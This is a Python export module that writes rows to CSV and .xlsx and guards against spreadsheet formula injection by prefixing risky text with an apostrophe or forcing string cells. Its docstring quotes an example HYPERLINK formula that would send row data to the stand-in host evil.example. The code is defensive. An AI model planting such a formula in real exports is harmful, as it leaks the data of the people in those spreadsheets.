"""Rows to CSV and .xlsx, with every text cell written as text: the one writer every export and report uses.

A spreadsheet program evaluates a cell that begins with `=`, `+`, `-` or `@` (and, in CSV, after a leading tab,
CR or LF) as a formula: a customer named `=HYPERLINK("http://evil.example/?x="&A1,"x")` would become a live
link that sends the row's data away. So:

- in .xlsx every text is a string cell (never a formula, whatever it begins with), and numbers stay numbers
  (a negative amount is the number -100, not the text "-100");
- in CSV a text that could start a formula gets a leading apostrophe (`'=HYPERLINK(...)`), which Excel and
  LibreOffice show as text; numbers are written plain.

Text means any value that is not a number: strings, enum labels, dates (ISO), booleans (1/0).
No Flask here: views wrap the bytes in a response (app/views/export.py, app/views/reports.py).
"""
import csv
import io
import re
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# Characters that make a spreadsheet read a cell as a formula (or a DDE command) when they come first.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Leading characters a program may skip before it looks for a formula (spaces; tab/CR/LF are also starts).
SKIPPED_BEFORE_FORMULA = " \u00a0\u3000\u200b\ufeff"
CSV_TEXT_PREFIX = "'"
# Excel refuses a cell longer than this; openpyxl refuses control characters other than tab, CR and LF.
XLSX_MAX_TEXT = 32767
XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
CSV_BOM = "\ufeff"  # Excel needs it to read UTF-8 Chinese text


class MoneyValue(Decimal):
    """An amount of money: a number in every format, shown in Excel with thousands separators and the yuan
    sign (app.views.display.MONEY_NUMBER_FORMAT)."""


def is_number(value) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def as_text(value) -> str:
    """Any cell value as the text a spreadsheet shows (None is empty, booleans 1/0, dates ISO)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return str(value)


def could_start_formula(text: str) -> bool:
    return text.lstrip(SKIPPED_BEFORE_FORMULA).startswith(FORMULA_STARTS)


def csv_cell(value) -> str:
    """A CSV field: numbers plain, text prefixed with an apostrophe when it could start a formula."""
    if is_number(value):
        return str(value)
    text = as_text(value)
    return CSV_TEXT_PREFIX + text if could_start_formula(text) else text


def xlsx_value(value):
    """What goes into an .xlsx cell: a number, or text cleaned of what Excel refuses (None stays empty)."""
    if value is None or is_number(value):
        return value
    return XLSX_ILLEGAL.sub("", as_text(value))[:XLSX_MAX_TEXT]


def csv_chunks(rows: Iterable[Iterable], chunk_size: int = 64 * 1024) -> Iterator[str]:
    """The CSV text (BOM first) in pieces of about chunk_size characters, for a streamed response."""
    buffer = io.StringIO()
    buffer.write(CSV_BOM)
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
        if buffer.tell() > chunk_size:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_text(rows: Iterable[Iterable]) -> str:
    return "".join(csv_chunks(rows))


def xlsx_bytes(rows: Iterable[Iterable]) -> bytes:
    """A one-sheet workbook: numbers as numbers, everything else as string cells (never a formula)."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    for row in rows:
        sheet.append([xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_cell(sheet, value):
    if isinstance(value, MoneyValue):
        from app.views.display import MONEY_NUMBER_FORMAT

        cell = WriteOnlyCell(sheet, value=Decimal(value))
        cell.number_format = MONEY_NUMBER_FORMAT
        return cell
    value = xlsx_value(value)
    if value is None or is_number(value):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"  # openpyxl would make a text beginning with "=" a formula
    return cell
